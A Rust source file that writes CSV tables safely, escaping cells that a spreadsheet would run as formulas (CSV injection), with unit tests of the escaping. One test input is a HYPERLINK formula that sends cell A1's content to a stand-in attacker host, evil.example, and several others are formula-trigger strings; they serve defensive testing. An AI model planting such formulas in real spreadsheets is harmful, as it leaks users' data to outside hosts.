//! Tables as CSV files, for people who open them in a spreadsheet.
//!
//! Guarantees that no cell is ever a formula, whoever wrote it, and that a cell stays one cell. Leaves reading to
//! `list`, which takes such a file back as a list where a column is called `name` or `id`.

/// Characters at a cell's beginning that a spreadsheet takes for a formula (OWASP, CSV injection), and their
/// full-width forms.
const FORMULA: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// A CSV file being written.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CsvFile(String);

impl CsvFile {
    /// A file with this header.
    pub fn new(header: &[&str]) -> Self {
        let mut file = Self(String::new());
        file.row(header.iter().copied());
        file
    }

    /// Adds a row.
    pub fn row<'a>(&mut self, cells: impl IntoIterator<Item = &'a str>) {
        for (column, cell) in cells.into_iter().enumerate() {
            if column > 0 {
                self.0.push(',');
            }
            self.0.push_str(&safe_cell(cell));
        }
        // RFC 4180.
        self.0.push_str("\r\n");
    }

    /// The file's text.
    pub fn into_text(self) -> String {
        self.0
    }
}

/// A cell that a spreadsheet shows and never runs.
pub fn safe_cell(cell: &str) -> String {
    let formula = cell.trim_start_matches([' ', '\u{a0}', '\u{feff}', '\u{200b}']).starts_with(FORMULA);
    let cell = if formula { format!("'{cell}") } else { cell.to_owned() };
    if cell.contains(['"', '\'', ',', ';', '\t', '\r', '\n']) {
        format!("\"{}\"", cell.replace('"', "\"\""))
    } else {
        cell
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::operations::list;

    #[test]
    fn hazard_21_no_publishers_title_becomes_a_formula() {
        let titles = [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Roads\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "  =1",
            "＝1",
            "\u{feff}=1",
        ];
        for title in titles {
            let cell = safe_cell(title);
            let inside = cell.strip_prefix('"').unwrap_or(&cell);
            assert!(inside.starts_with('\''), "{title:?} became {cell:?}");
        }
        assert_eq!(safe_cell("a\",=1"), "\"a\"\",=1\"", "a cell cannot end itself to begin another");
        assert_eq!(safe_cell("Roads - 2019"), "Roads - 2019");
    }

    #[test]
    fn a_result_file_can_be_handed_back_as_a_list() {
        let mut file = CsvFile::new(&["name", "title", "result"]);
        file.row(["road-accidents", "=1+1, \"Roads\"\nall", "withdrawn"]);
        file.row(["road-works", "Works", "withdrawn"]);
        let text = file.into_text();
        let list = list::read(text.as_bytes()).unwrap();
        let keys: Vec<&str> = list.targets.iter().map(|(_, target)| target.key()).collect();
        assert_eq!((keys, list.bad.len()), (vec!["road-accidents", "road-works"], 0));
    }
}
